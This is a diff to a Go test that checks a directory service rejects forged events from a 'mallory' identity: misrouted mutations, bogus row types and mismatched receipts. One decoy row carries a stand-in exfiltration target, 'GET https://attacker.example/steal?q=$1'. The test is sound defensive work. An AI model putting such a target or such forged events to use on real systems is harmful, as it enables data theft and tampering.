@@ -17,7 +17,7 @@ import (
 // and waits until n's projector has moved past it.
 func forge(t *testing.T, n *capdir.Node, subject, typ string, data any) {
 	t.Helper()
-	ev, err := eventlog.NewEventAt(time.Now(), typ, "nats:mallory", data)
+	ev, err := wire.NewEvent(time.Now(), typ, "nats:mallory", data)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -27,9 +27,9 @@ func forge(t *testing.T, n *capdir.Node, subject, typ string, data any) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	stream := eventlog.DataStream
+	stream := wire.DataStream
 	if strings.HasPrefix(subject, "capdir.ctl.") {
-		stream = eventlog.ControlStream
+		stream = wire.ControlStream
 	}
 	if err := n.Projector.WaitFor(ctx, stream, seq); err != nil {
 		t.Fatal(err)
@@ -52,7 +52,7 @@ func TestForgedEventsAreNotFolded(t *testing.T) {
 	_, before := nodetest.Do(t, n, "GET", "/api/directory/GREET", "")
 
 	decoy := contract.Row{Key: "GREET", Type: contract.TypeHTTP, Target: "GET https://attacker.example/steal?q=$1", Content: "# WHAT: greet", Enabled: 1}
-	forge(t, n, eventlog.DirectorySubject("DECOY"), eventlog.TypeDirectoryMutate,
+	forge(t, n, wire.DirectorySubject("DECOY"), wire.TypeDirectoryMutate,
 		eventlog.DirectoryMutation{Action: eventlog.ActionReplace, Key: "GREET", Row: &decoy})
 	if _, after := nodetest.Do(t, n, "GET", "/api/directory/GREET", ""); after != before {
 		t.Fatalf("GREET changed by a mutation on DECOY's subject:\nbefore %s\nafter  %s", before, after)
@@ -65,7 +65,7 @@ func TestForgedEventsAreNotFolded(t *testing.T) {
 	}
 
 	weird := contract.Row{Key: "GREET", Type: "weird", Target: "echo"}
-	forge(t, n, eventlog.DirectorySubject("GREET"), eventlog.TypeDirectoryMutate,
+	forge(t, n, wire.DirectorySubject("GREET"), wire.TypeDirectoryMutate,
 		eventlog.DirectoryMutation{Action: eventlog.ActionReplace, Key: "GREET", Row: &weird})
 	if code, body := nodetest.Do(t, n, "GET", "/api/directory/GREET", ""); code != 200 || !strings.Contains(body, `"type":"fn"`) {
 		t.Fatalf("GREET after a forged type: %d %s", code, body)
@@ -74,14 +74,14 @@ func TestForgedEventsAreNotFolded(t *testing.T) {
 		t.Fatalf("PUT GREET after a forged mutation on its subject: %d %s", code, body)
 	}
 
-	forge(t, n, eventlog.RequestSubject("GREET"), eventlog.TypeReceipt, eventlog.Receipt{ReceiptSummary: eventlog.ReceiptSummary{
+	forge(t, n, wire.RequestSubject("GREET"), wire.TypeReceipt, wire.Receipt{ReceiptSummary: wire.ReceiptSummary{
 		InvocationID: "inv_forged", Key: "GREET", OK: true, Ran: true, Status: wire.StatusProvenMaterialResult}})
 	if code, body := nodetest.Do(t, n, "GET", "/api/receipts/inv_forged", ""); code != 404 {
 		t.Fatalf("a receipt forged on a request subject: %d %s", code, body)
 	}
-	forge(t, n, eventlog.ReceiptSubject("GREET"), eventlog.TypeInvocationRequested,
-		eventlog.InvocationRequest{InvocationID: "inv_on_rcpt", Key: "GREET", Body: "Ada"})
-	forge(t, n, eventlog.ReceiptSubject("GREET"), eventlog.TypeReceipt, eventlog.Receipt{ReceiptSummary: eventlog.ReceiptSummary{
+	forge(t, n, wire.ReceiptSubject("GREET"), wire.TypeInvocationRequested,
+		wire.InvocationRequest{InvocationID: "inv_on_rcpt", Key: "GREET", Body: "Ada"})
+	forge(t, n, wire.ReceiptSubject("GREET"), wire.TypeReceipt, wire.Receipt{ReceiptSummary: wire.ReceiptSummary{
 		InvocationID: "inv_other_key", Key: "DECOY", OK: true, Ran: true, Status: wire.StatusProvenMaterialResult}})
 	if code, body := nodetest.Do(t, n, "GET", "/api/receipts/inv_other_key", ""); code != 404 {
 		t.Fatalf("a receipt naming another key than its subject's: %d %s", code, body)
